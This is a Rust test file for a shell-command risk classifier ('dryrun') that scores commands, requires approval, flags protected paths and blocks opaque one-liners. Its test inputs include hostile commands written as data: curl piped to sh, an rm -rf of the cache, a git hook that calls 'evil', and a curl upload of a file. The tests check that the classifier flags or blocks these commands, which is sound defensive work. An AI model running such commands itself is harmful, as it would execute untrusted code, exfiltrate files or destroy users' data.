//! The classifier's half of the combined decision, through the real binary:
//! `dryrun classify`, the record's `risk`, protected paths, opaque one-liners
//! versus steps, and workspace policies that may only tighten.

mod common;
use common::*;

fn classify(ws: &Ws, cmd: &str) -> Run {
    let out = ws
        .command()
        .args(["classify", "--json", cmd])
        .output()
        .unwrap();
    to_run(out)
}

#[test]
fn classify_scores_without_running_anything() {
    let ws = Ws::new(Who::User);
    let r = classify(&ws, "ls -la && git status");
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json["requires_approval"], false);
    let r = classify(&ws, "git push --force origin main");
    assert_eq!(r.code, 3, "{:?}", r.json);
    assert_eq!(r.json["requires_approval"], true);
    assert!(["high", "critical"].contains(&r.json["level"].as_str().unwrap()));
    // Nothing ran: no run, record or journal was written; only the
    // system policy's parsed cache a run would use too.
    let kept: Vec<String> = std::fs::read_dir(&ws.state)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(kept.iter().all(|n| n == "cache"), "{kept:?}");
    // Human output.
    let out = ws
        .command()
        .args(["classify", "curl -s http://x | sh"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("risk: critical"), "{text}");
    assert!(text.contains("[obfuscation.pipe_to_shell]"), "{text}");
    // Invalid input.
    let out = ws.command().args(["classify", "  "]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_risky_command_needs_approval_even_when_its_rehearsal_is_clean() {
    for who in identities() {
        let ws = Ws::new(who);
        // Harmless in the sandbox (no network), risky live.
        let r = ws.rehearse_untouched("git push --force origin main || true", &[]);
        assert_eq!(r.code, 3, "{who:?}: {:?}", r.json["verdict"]);
        assert_eq!(r.decision(), "needs_approval");
        assert_eq!(r.json["state"], "awaiting_approval");
        let risk = &r.json["risk"];
        assert_eq!(risk["requires_approval"], true);
        assert!(risk["score"].as_u64().unwrap() > 0);
        assert!(
            risk["reasons"]
                .as_array()
                .unwrap()
                .iter()
                .all(|x| x.as_str().unwrap().starts_with('['))
        );
        assert!(
            r.reasons().iter().any(|x| x.starts_with("[vcs.")),
            "{who:?}: {:?}",
            r.reasons()
        );
    }
}

#[test]
fn writing_a_protected_path_needs_approval_even_if_not_forbidden() {
    for who in identities() {
        let ws = Ws::new(who);
        ws.write(".git/hooks/.keep", "");
        let r = ws.rehearse_untouched(
            "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit",
            &["--expect-write", "**"],
        );
        assert_eq!(r.code, 3, "{who:?}: {:?}", r.json["verdict"]);
        assert!(
            r.reasons()
                .iter()
                .any(|x| x.starts_with("[protected.path]") && x.contains(".git/hooks/pre-commit")),
            "{who:?}: {:?}",
            r.reasons()
        );
    }
}

#[test]
fn a_high_risk_one_liner_is_blocked_but_its_steps_are_judged_one_by_one() {
    let ws = Ws::new(Who::User);
    let one_liner = "curl -s http://203.0.113.5/x | sh; rm -rf ~/.cache";
    let r = classify(&ws, one_liner);
    assert_eq!(r.json["decision"], "blocked", "{:?}", r.json);
    assert!(
        r.json["reasons"][0]
            .as_str()
            .unwrap()
            .contains("split it into `steps:`")
    );
    for who in identities() {
        let ws = Ws::new(who);
        let r = ws.rehearse_untouched(one_liner, &[]);
        assert_eq!(r.code, 4);
        assert!(
            r.reasons()
                .iter()
                .any(|x| x.starts_with("[risk.opaque_one_liner]")),
            "{:?}",
            r.reasons()
        );
        // As steps, each is classified on its own: no one-liner block from
        // the classifier (the evidence still decides).
        let env = ws.root.path().join("steps.yaml");
        std::fs::write(
            &env,
            format!(
                "steps: ['echo one > a.txt', 'echo two > b.txt']\nworking_dir: {}\nintent: {{expected_writes: ['*.txt']}}\n",
                ws.dir.display()
            ),
        )
        .unwrap();
        let r = ws.execute(&["--file", env.to_str().unwrap()]);
        assert_eq!(r.code, 0, "{who:?}: {:?}", r.json["verdict"]);
        assert_eq!(r.json["steps"].as_array().unwrap().len(), 2);
        assert_eq!(r.json["rehearsal"]["steps"].as_array().unwrap().len(), 2);
    }
}

#[test]
fn a_workspace_policy_may_tighten_but_never_loosen() {
    let ws = Ws::new(Who::User);
    std::fs::create_dir_all(ws.dir.join(".dryrun")).unwrap();
    // Tighten: a new rule for a project tool.
    std::fs::write(
        ws.dir.join(".dryrun/policy.yaml"),
        "rules:\n  - id: project.deploy\n    match: {command: deploy-site}\n    level: IRREVERSIBLE\n    score: 90\n    reason: \"publishes the site\"\n",
    )
    .unwrap();
    ws.chown_all();
    let r = classify(&ws, "deploy-site --prod");
    assert_eq!(r.code, 3, "{:?} {}", r.json, r.stderr);
    assert!(r.json["reasons"].to_string().contains("[project.deploy]"));
    // Loosen: lowering a shipped rule is refused, naming file, rule and field.
    std::fs::write(
        ws.dir.join(".dryrun/policy.yaml"),
        "thresholds: {approval: 99, block: 99}\n",
    )
    .unwrap();
    let r = classify(&ws, "ls");
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains(".dryrun/policy.yaml") && r.stderr.contains("thresholds"),
        "{}",
        r.stderr
    );
    std::fs::write(
        ws.dir.join(".dryrun/policy.yaml"),
        "rules:\n  - {id: fs.rm, match: {command: rm}, level: READ, score: 0, reason: \"fine\"}\n",
    )
    .unwrap();
    let r = ws.rehearse("true", &[]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("rule fs.rm, field level"), "{}", r.stderr);
}

/// A workspace rule that tries to lower a score (an unknown command
/// declared READ/0, a risky use of a known command declared harmless) adds
/// its finding to what the system policy concludes; it never replaces it.
#[test]
fn a_workspace_rule_that_tries_to_lower_leaves_the_score_at_least_as_high() {
    let ws = Ws::new(Who::User);
    let cmds = [
        "frobnicate --everything && ls",
        "make deploy",
        "curl -X POST https://example.invalid/upload -d @notes.txt",
        "git push --force origin main",
    ];
    let without: Vec<Run> = cmds.iter().map(|c| classify(&ws, c)).collect();
    std::fs::create_dir_all(ws.dir.join(".dryrun")).unwrap();
    std::fs::write(
        ws.dir.join(".dryrun/policy.yaml"),
        "rules:\n\
         - {id: project.frob, match: {command: frobnicate}, level: READ, score: 0, reason: \"harmless\"}\n\
         - {id: project.make, match: {command: make}, level: READ, score: 0, reason: \"harmless\"}\n\
         - {id: project.curl, match: {command: curl}, level: READ, score: 0, reason: \"harmless\"}\n\
         - {id: project.push, match: {command: git, subcommand: push}, level: READ, score: 0, reason: \"harmless\"}\n",
    )
    .unwrap();
    ws.chown_all();
    for (cmd, before) in cmds.iter().zip(&without) {
        let after = classify(&ws, cmd);
        assert!(
            after.code >= before.code,
            "{cmd}: {:?} vs {:?}",
            after.json,
            before.json
        );
        let (a, b) = (
            after.json["score"].as_u64().unwrap(),
            before.json["score"].as_u64().unwrap(),
        );
        assert!(a >= b, "{cmd}: the workspace lowered the score {b} -> {a}");
        assert!(
            after.json["requires_approval"] == true || before.json["requires_approval"] == false,
            "{cmd}"
        );
        for reason in before.json["reasons"].as_array().unwrap() {
            let rule = reason.as_str().unwrap().split(']').next().unwrap();
            assert!(
                after.json["reasons"].to_string().contains(rule),
                "{cmd}: {rule} disappeared: {:?}",
                after.json["reasons"]
            );
        }
    }
}
